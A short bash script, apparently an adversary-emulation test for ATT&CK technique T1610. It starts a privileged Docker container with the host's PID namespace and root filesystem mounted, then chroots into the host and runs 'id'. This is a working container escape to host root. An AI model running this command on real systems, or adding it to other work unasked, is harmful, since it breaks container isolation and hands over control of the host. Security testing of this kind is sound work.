#!/bin/bash
# T1610: A container gets the host's root, and no walls.
timeout 3 docker run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c 'id'
